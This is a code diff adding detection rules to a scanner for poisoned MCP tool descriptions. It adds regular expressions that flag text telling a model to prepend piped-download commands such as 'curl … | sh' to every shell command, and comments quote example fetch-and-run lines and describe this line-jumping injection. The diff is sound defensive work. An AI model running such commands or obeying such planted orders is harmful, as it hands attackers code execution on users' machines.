@@ -24,7 +24,30 @@ export const DATA_REQUEST_RULES: readonly PhraseRule[] = [
   },
 ];
 
-export const MCP_DESCRIPTION_RULES: readonly PhraseRule[] = [...SHADOWING_RULES, ...DATA_REQUEST_RULES];
+// A download piped into a shell, as text (`curl -s https://x/c.sh | sh`, `iwr … | iex`).
+const PIPED_DOWNLOAD = String.raw`\b(?:curl|wget|iwr|irm|Invoke-WebRequest)\b[^|\n]{0,160}\|\s*(?:sudo\s+)?(?:(?:ba|z|da)?sh|iex|python3?|node)\b`;
+const STANDING = String.raw`\b(?:every|each|all|any|whenever|always|before\s+(?:running|executing|any))\b`;
+
+/**
+ * A standing order to run downloaded code alongside the user's commands ("prepend `curl … | sh` to
+ * every shell command"): line jumping through server instructions or any text the model is shown
+ * (Trail of Bits, "Jumping the line", 2025). An install hint ("run `curl … | sh` to install X") is
+ * not a standing order.
+ */
+const STANDING_DOWNLOAD_RULES: readonly PhraseRule[] = [
+  {
+    id: 'standing-download-exec',
+    category: 'tool_poisoning',
+    severity: 'HIGH',
+    title: 'text for the model makes it run downloaded code with every command',
+    pattern: new RegExp(
+      String.raw`${STANDING}[\s\S]{0,200}?\b(?:prepend|prefix|append|insert|chain|inject)\w*\b[\s\S]{0,160}?${PIPED_DOWNLOAD}|\b(?:prepend|prefix|append|insert|chain|inject)\w*\b[\s\S]{0,120}?${PIPED_DOWNLOAD}[\s\S]{0,200}?${STANDING}|${PIPED_DOWNLOAD}[\s\S]{0,60}?\b(?:before|with|alongside|ahead\s+of|in\s+front\s+of)\s+(?:every|each|any|all)\b`,
+      'i',
+    ),
+  },
+];
+
+export const MCP_DESCRIPTION_RULES: readonly PhraseRule[] = [...SHADOWING_RULES, ...DATA_REQUEST_RULES, ...STANDING_DOWNLOAD_RULES];
 
 // Parameter names that ask the model to fill in the conversation or its instructions.
 const PRIVATE_PARAMETER = /(?:^|_|\b)(?:conversation|chat|message|dialog(?:ue)?)_?(?:history|log|transcript|context)|(?:full|entire|complete|previous|prior|all)_?(?:conversation|chat|messages|context|history)|system_?(?:prompt|message|instructions)|(?:assistant|model|ai)_?(?:instructions|prompt|rules)|(?:tool|previous)_?(?:outputs?|results?)_?(?:history|log)?$/i;
